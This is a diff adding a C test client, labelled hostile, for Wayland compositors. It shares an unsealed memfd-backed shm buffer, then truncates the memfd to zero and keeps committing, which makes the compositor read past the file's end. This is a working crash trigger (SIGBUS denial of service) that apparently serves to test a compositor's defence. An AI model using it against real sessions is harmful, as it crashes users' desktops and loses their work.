@@ -1,0 +1,421 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * A Wayland client that does what the LWN article warns about: it shares an
+ * shm buffer backed by a memfd with the compositor, lets the compositor read
+ * it once, then shrinks the memfd to nothing and keeps committing the buffer,
+ * so every repaint makes the compositor read pages beyond the end of the file.
+ *
+ *   hostile-client [--pause] [--no-truncate] [--colour RRGGBB] [--size WxH] N
+ *
+ * It maps an ordinary xdg_toplevel of WxH (default 128x96) with an XRGB8888
+ * buffer filled with the colour (default 33cc66), commits and waits for the
+ * first frame callback ("frame 0"). Then it ftruncate()s the memfd to 0
+ * (unless --no-truncate) and attaches, damages and commits N more times,
+ * each time waiting for the frame callback ("frame 1".."frame N"). A test
+ * counts the window's pixels in a screenshot, wherever the shell placed it.
+ *
+ * With --pause it stops twice and waits for a line on stdin, still serving
+ * the connection: after frame 0 (before the truncation) and after frame N, so
+ * that a test can take screenshots while the window is on screen.
+ *
+ * Exit status: 0 after N frames and a final roundtrip; 3 when the compositor
+ * disconnected it with a protocol error (printed, and libwayland-client logs
+ * the compositor's message on stderr); 4 when the connection was lost
+ * otherwise (the compositor died); 1 for setup failures; 2 for bad usage.
+ * Synchronisation is by roundtrips and frame callbacks only, never by time.
+ */
+#include <errno.h>
+#include <poll.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include <wayland-client.h>
+
+#include "xdg-shell-client-protocol.h"
+
+enum {
+	EXIT_SETUP = 1,
+	EXIT_USAGE = 2,
+	EXIT_PROTOCOL = 3,
+	EXIT_LOST = 4,
+};
+
+/* The window size used unless --size or the shell chooses another. */
+#define DEFAULT_WIDTH 128
+#define DEFAULT_HEIGHT 96
+
+struct client {
+	struct wl_display *display;
+	struct wl_registry *registry;
+	struct wl_compositor *compositor;
+	struct wl_shm *shm;
+	struct xdg_wm_base *wm_base;
+	struct wl_surface *surface;
+	struct xdg_surface *xdg_surface;
+	struct xdg_toplevel *toplevel;
+	struct wl_buffer *buffer;
+	int memfd;
+	int32_t pending_width, pending_height;
+	uint32_t configure_serial;
+	bool configured;
+	bool frame_done;
+	bool closed;
+};
+
+/* Prints why the connection ended and exits with the matching status. */
+static void __attribute__((noreturn))
+die_disconnected(struct client *c)
+{
+	int err = wl_display_get_error(c->display);
+
+	if (err == EPROTO) {
+		const struct wl_interface *iface = NULL;
+		uint32_t id = 0;
+		uint32_t code;
+
+		code = wl_display_get_protocol_error(c->display, &iface, &id);
+		printf("disconnected: protocol error %u on %s@%u\n", code,
+		       iface ? iface->name : "unknown", id);
+		fflush(stdout);
+		exit(EXIT_PROTOCOL);
+	}
+	printf("disconnected: %s\n", strerror(err ? err : EPIPE));
+	fflush(stdout);
+	exit(EXIT_LOST);
+}
+
+static void
+dispatch_or_die(struct client *c)
+{
+	if (wl_display_dispatch(c->display) < 0)
+		die_disconnected(c);
+}
+
+static void
+roundtrip_or_die(struct client *c)
+{
+	if (wl_display_roundtrip(c->display) < 0)
+		die_disconnected(c);
+}
+
+static void
+wm_base_ping(void *data, struct xdg_wm_base *wm_base, uint32_t serial)
+{
+	xdg_wm_base_pong(wm_base, serial);
+}
+
+static const struct xdg_wm_base_listener wm_base_listener = {
+	.ping = wm_base_ping,
+};
+
+static void
+registry_global(void *data, struct wl_registry *registry, uint32_t name,
+		const char *interface, uint32_t version)
+{
+	struct client *c = data;
+
+	if (strcmp(interface, wl_compositor_interface.name) == 0) {
+		c->compositor = wl_registry_bind(registry, name,
+						 &wl_compositor_interface, 1);
+	} else if (strcmp(interface, wl_shm_interface.name) == 0) {
+		c->shm = wl_registry_bind(registry, name, &wl_shm_interface, 1);
+	} else if (strcmp(interface, xdg_wm_base_interface.name) == 0) {
+		c->wm_base = wl_registry_bind(registry, name,
+					      &xdg_wm_base_interface, 1);
+		xdg_wm_base_add_listener(c->wm_base, &wm_base_listener, c);
+	}
+}
+
+static void
+registry_global_remove(void *data, struct wl_registry *registry, uint32_t name)
+{
+}
+
+static const struct wl_registry_listener registry_listener = {
+	.global = registry_global,
+	.global_remove = registry_global_remove,
+};
+
+static void
+xdg_surface_configure(void *data, struct xdg_surface *xdg_surface,
+		      uint32_t serial)
+{
+	struct client *c = data;
+
+	c->configure_serial = serial;
+	c->configured = true;
+}
+
+static const struct xdg_surface_listener xdg_surface_listener = {
+	.configure = xdg_surface_configure,
+};
+
+static void
+toplevel_configure(void *data, struct xdg_toplevel *toplevel, int32_t width,
+		   int32_t height, struct wl_array *states)
+{
+	struct client *c = data;
+
+	c->pending_width = width;
+	c->pending_height = height;
+}
+
+static void
+toplevel_close(void *data, struct xdg_toplevel *toplevel)
+{
+	struct client *c = data;
+
+	c->closed = true;
+}
+
+static const struct xdg_toplevel_listener toplevel_listener = {
+	.configure = toplevel_configure,
+	.close = toplevel_close,
+};
+
+static void
+frame_done(void *data, struct wl_callback *callback, uint32_t time)
+{
+	struct client *c = data;
+
+	c->frame_done = true;
+	wl_callback_destroy(callback);
+}
+
+static const struct wl_callback_listener frame_listener = {
+	.done = frame_done,
+};
+
+/*
+ * An XRGB8888 buffer in a fresh memfd, filled with the colour. The memfd is
+ * deliberately not sealed: a sealed memfd (F_SEAL_SHRINK) could not be
+ * truncated, which is the whole point of this client.
+ */
+static int
+create_buffer(struct client *c, int32_t width, int32_t height, uint32_t colour)
+{
+	int32_t stride = width * 4;
+	size_t size = (size_t)stride * (size_t)height;
+	struct wl_shm_pool *pool;
+	uint32_t *pixels;
+
+	c->memfd = memfd_create("nosigbus-hostile", MFD_CLOEXEC);
+	if (c->memfd < 0) {
+		perror("hostile-client: memfd_create");
+		return -1;
+	}
+	if (ftruncate(c->memfd, (off_t)size) < 0) {
+		perror("hostile-client: ftruncate");
+		return -1;
+	}
+	pixels = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED,
+		      c->memfd, 0);
+	if (pixels == MAP_FAILED) {
+		perror("hostile-client: mmap");
+		return -1;
+	}
+	/*
+	 * The X byte is "don't care", but weston 10's pixman renderer blends
+	 * it as alpha: 0xff keeps the colour, and a zero page (all bytes 0)
+	 * shows as black.
+	 */
+	for (size_t i = 0; i < size / 4; i++)
+		pixels[i] = 0xff000000u | colour;
+	/* Our own view goes away before the truncation: we never fault. */
+	munmap(pixels, size);
+
+	pool = wl_shm_create_pool(c->shm, c->memfd, (int32_t)size);
+	c->buffer = wl_shm_pool_create_buffer(pool, 0, width, height, stride,
+					      WL_SHM_FORMAT_XRGB8888);
+	wl_shm_pool_destroy(pool);
+	return 0;
+}
+
+/* Attach, damage everything, ask for a frame callback, commit, and wait. */
+static void
+draw_frame(struct client *c, int32_t width, int32_t height)
+{
+	struct wl_callback *callback;
+
+	wl_surface_attach(c->surface, c->buffer, 0, 0);
+	wl_surface_damage(c->surface, 0, 0, width, height);
+	callback = wl_surface_frame(c->surface);
+	wl_callback_add_listener(callback, &frame_listener, c);
+	c->frame_done = false;
+	wl_surface_commit(c->surface);
+	while (!c->frame_done)
+		dispatch_or_die(c);
+}
+
+/*
+ * Waits for one line on stdin while still serving the Wayland connection
+ * (pings, and noticing a disconnection at once).
+ */
+static void
+wait_for_line(struct client *c, const char *what)
+{
+	struct pollfd fds[2] = {
+		{ .fd = STDIN_FILENO, .events = POLLIN },
+		{ .fd = wl_display_get_fd(c->display), .events = POLLIN },
+	};
+	char line[256];
+
+	printf("paused %s\n", what);
+	fflush(stdout);
+	for (;;) {
+		while (wl_display_prepare_read(c->display) != 0) {
+			if (wl_display_dispatch_pending(c->display) < 0)
+				die_disconnected(c);
+		}
+		if (wl_display_flush(c->display) < 0 && errno != EAGAIN) {
+			wl_display_cancel_read(c->display);
+			die_disconnected(c);
+		}
+		if (poll(fds, 2, -1) < 0) {
+			wl_display_cancel_read(c->display);
+			if (errno == EINTR)
+				continue;
+			perror("hostile-client: poll");
+			exit(EXIT_SETUP);
+		}
+		if (fds[1].revents) {
+			if (wl_display_read_events(c->display) < 0)
+				die_disconnected(c);
+			if (wl_display_dispatch_pending(c->display) < 0)
+				die_disconnected(c);
+		} else {
+			wl_display_cancel_read(c->display);
+		}
+		if (fds[0].revents)
+			break;
+	}
+	/* EOF counts as "go on" too: the test may just close the pipe. */
+	if (fgets(line, sizeof(line), stdin) == NULL)
+		clearerr(stdin);
+}
+
+static void __attribute__((noreturn))
+usage(void)
+{
+	fprintf(stderr, "usage: hostile-client [--pause] [--no-truncate] "
+		"[--colour RRGGBB] [--size WxH] FRAMES\n");
+	exit(EXIT_USAGE);
+}
+
+int
+main(int argc, char **argv)
+{
+	struct client c = { .memfd = -1 };
+	uint32_t colour = 0x33cc66;
+	bool pause = false;
+	bool truncate_it = true;
+	long frames = -1;
+	int32_t width = DEFAULT_WIDTH, height = DEFAULT_HEIGHT;
+
+	for (int i = 1; i < argc; i++) {
+		char *end;
+
+		if (strcmp(argv[i], "--pause") == 0) {
+			pause = true;
+		} else if (strcmp(argv[i], "--no-truncate") == 0) {
+			truncate_it = false;
+		} else if (strcmp(argv[i], "--colour") == 0 && i + 1 < argc) {
+			colour = (uint32_t)strtoul(argv[++i], &end, 16);
+			if (*end != '\0' || colour == 0 || colour > 0xffffff)
+				usage();
+		} else if (strcmp(argv[i], "--size") == 0 && i + 1 < argc) {
+			if (sscanf(argv[++i], "%dx%d", &width, &height) != 2 ||
+			    width <= 0 || height <= 0 ||
+			    width > 4096 || height > 4096)
+				usage();
+		} else if (argv[i][0] != '-' && frames < 0) {
+			frames = strtol(argv[i], &end, 10);
+			if (*end != '\0' || frames < 0)
+				usage();
+		} else {
+			usage();
+		}
+	}
+	if (frames < 0)
+		usage();
+
+	/* Progress lines are read through a pipe: never hold them back. */
+	setvbuf(stdout, NULL, _IOLBF, 0);
+
+	c.display = wl_display_connect(NULL);
+	if (c.display == NULL) {
+		perror("hostile-client: wl_display_connect");
+		return EXIT_SETUP;
+	}
+	c.registry = wl_display_get_registry(c.display);
+	wl_registry_add_listener(c.registry, &registry_listener, &c);
+	roundtrip_or_die(&c);
+	if (c.compositor == NULL || c.shm == NULL || c.wm_base == NULL) {
+		fprintf(stderr, "hostile-client: compositor lacks wl_compositor, "
+			"wl_shm or xdg_wm_base\n");
+		return EXIT_SETUP;
+	}
+
+	c.surface = wl_compositor_create_surface(c.compositor);
+	c.xdg_surface = xdg_wm_base_get_xdg_surface(c.wm_base, c.surface);
+	xdg_surface_add_listener(c.xdg_surface, &xdg_surface_listener, &c);
+	c.toplevel = xdg_surface_get_toplevel(c.xdg_surface);
+	xdg_toplevel_add_listener(c.toplevel, &toplevel_listener, &c);
+	xdg_toplevel_set_title(c.toplevel, "nosigbus hostile client");
+	wl_surface_commit(c.surface);
+	while (!c.configured)
+		dispatch_or_die(&c);
+	/* A size imposed by the shell wins; desktop-shell leaves it to us. */
+	if (c.pending_width > 0 && c.pending_height > 0) {
+		width = c.pending_width;
+		height = c.pending_height;
+	}
+	xdg_surface_ack_configure(c.xdg_surface, c.configure_serial);
+	printf("configured %dx%d\n", width, height);
+
+	if (create_buffer(&c, width, height, colour) < 0)
+		return EXIT_SETUP;
+
+	draw_frame(&c, width, height);
+	printf("frame 0\n");
+	if (pause)
+		wait_for_line(&c, "before truncate");
+
+	if (truncate_it) {
+		if (ftruncate(c.memfd, 0) < 0) {
+			perror("hostile-client: ftruncate to 0");
+			return EXIT_SETUP;
+		}
+		printf("truncated\n");
+	}
+
+	for (long n = 1; n <= frames; n++) {
+		draw_frame(&c, width, height);
+		printf("frame %ld\n", n);
+	}
+	if (pause)
+		wait_for_line(&c, "after frames");
+
+	/* The last word: a compositor error still in flight arrives here. */
+	roundtrip_or_die(&c);
+	if (c.closed)
+		printf("closed by compositor\n");
+	printf("connected after %ld frames\n", frames);
+
+	wl_buffer_destroy(c.buffer);
+	xdg_toplevel_destroy(c.toplevel);
+	xdg_surface_destroy(c.xdg_surface);
+	wl_surface_destroy(c.surface);
+	xdg_wm_base_destroy(c.wm_base);
+	wl_shm_destroy(c.shm);
+	wl_compositor_destroy(c.compositor);
+	wl_registry_destroy(c.registry);
+	wl_display_disconnect(c.display);
+	close(c.memfd);
+	return 0;
+}
